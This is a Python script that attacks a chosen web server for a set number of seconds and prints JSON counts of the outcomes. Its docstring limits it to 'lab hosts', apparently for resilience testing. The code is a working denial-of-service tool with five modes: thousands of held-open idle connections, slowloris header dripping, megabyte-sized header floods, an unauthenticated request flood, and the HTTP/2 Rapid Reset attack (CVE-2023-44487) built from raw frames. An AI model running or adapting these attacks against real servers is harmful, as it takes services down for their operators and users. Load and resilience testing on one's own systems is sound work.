"""Attacks the door from this machine for some seconds; prints JSON with what came of it.

The argument is a JSON object: kind, host, port, name, source, seconds, path. Only for lab hosts.
"""

import asyncio
import collections
import json
import resource
import ssl
import struct
import sys
import time

want = json.loads(sys.argv[1])
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
found: collections.Counter[str] = collections.Counter()
END = time.monotonic() + want["seconds"]
Link = tuple[asyncio.StreamReader, asyncio.StreamWriter]


async def connect(*, tls: bool = True, h2: bool = False) -> Link:
    """A connection from the attacker's address."""
    if h2:
        context.set_alpn_protocols(["h2"])
    link = await asyncio.wait_for(
        asyncio.open_connection(
            want["host"],
            want["port"],
            ssl=context if tls else None,
            server_hostname=want["name"] if tls else None,
            local_addr=(want["source"], 0),
        ),
        10,
    )
    found["connected"] += 1
    return link


async def connections() -> None:
    """10,000 connections that never say a word, opened again as they are closed."""
    gate = asyncio.Semaphore(500)

    async def hold() -> None:
        async with gate:
            try:
                reader, writer = await connect(tls=False)
            except (OSError, TimeoutError) as error:
                found[type(error).__name__] += 1
                return
        while time.monotonic() < END and not reader.at_eof():
            await asyncio.sleep(0.5)
        found["held to the end"] += not reader.at_eof()
        writer.close()

    await asyncio.gather(*(hold() for _ in range(10_000)))


async def loris() -> None:
    """Requests whose headers never end, a line every second."""

    async def drip() -> None:
        while time.monotonic() < END:
            try:
                _, writer = await connect()
                writer.write(f"GET / HTTP/1.1\r\nHost: {want['name']}\r\n".encode())
                while time.monotonic() < END:
                    writer.write(b"X-Drip: 1\r\n")
                    await writer.drain()
                    await asyncio.sleep(1)
                writer.close()
            except (OSError, TimeoutError, ssl.SSLError) as error:
                found[type(error).__name__] += 1
                await asyncio.sleep(0.2)

    await asyncio.gather(*(drip() for _ in range(1000)))


async def headers() -> None:
    """Headers of a megabyte, again and again."""

    async def flood() -> None:
        while time.monotonic() < END:
            try:
                reader, writer = await connect()
                writer.write(f"GET / HTTP/1.1\r\nHost: {want['name']}\r\n".encode())
                for number in range(64):
                    writer.write(f"X-{number}: {'a' * 16000}\r\n".encode())
                await writer.drain()
                found[(await reader.readline()).decode("latin-1").strip()[:40] or "closed"] += 1
                writer.close()
            except (OSError, TimeoutError, ssl.SSLError) as error:
                found[type(error).__name__] += 1

    await asyncio.gather(*(flood() for _ in range(50)))


async def flood() -> None:
    """Requests as fast as they go, without a key."""

    async def ask() -> None:
        request = f"GET {want['path']} HTTP/1.1\r\nHost: {want['name']}:{want['port']}\r\n\r\n".encode()
        while time.monotonic() < END:
            try:
                reader, writer = await connect()
                while time.monotonic() < END:
                    writer.write(request)
                    head = await reader.readuntil(b"\r\n\r\n")
                    length = next(
                        int(line.split(b":")[1])
                        for line in head.lower().split(b"\r\n")
                        if b"content-length" in line
                    )
                    await reader.readexactly(length)
                    found[head.split(b" ", 2)[1].decode()] += 1
                    found["said when to come back"] += b"retry-after: 1" in head.lower()
            except (OSError, TimeoutError, ssl.SSLError, asyncio.IncompleteReadError) as error:
                found[type(error).__name__] += 1

    await asyncio.gather(*(ask() for _ in range(50)))


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


async def reset() -> None:
    """HTTP/2 rapid reset (CVE-2023-44487): streams that are opened and cancelled at once."""
    authority = f"{want['name']}:{want['port']}".encode()
    block = b"\x82\x87\x84\x01" + bytes([len(authority)]) + authority

    async def cancel() -> None:
        while time.monotonic() < END:
            try:
                _, writer = await connect(h2=True)
                writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
                for stream in range(1, 200_001, 2):
                    writer.write(frame(1, 5, stream, block) + frame(3, 0, stream, struct.pack(">I", 8)))
                    found["streams"] += 1
                    if stream % 201 == 0:
                        await writer.drain()
                        if time.monotonic() >= END:
                            break
                writer.close()
            except (OSError, TimeoutError, ssl.SSLError) as error:
                found[type(error).__name__] += 1

    await asyncio.gather(*(cancel() for _ in range(20)))


_, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
KINDS = {"connections": connections, "loris": loris, "headers": headers, "flood": flood, "reset": reset}


async def main() -> None:
    """The attack, and no longer than it was asked for."""
    try:
        await asyncio.wait_for(KINDS[want["kind"]](), want["seconds"] + 5)
    except TimeoutError:
        found["cut off"] += 1


asyncio.run(main())
json.dump(dict(found), sys.stdout)
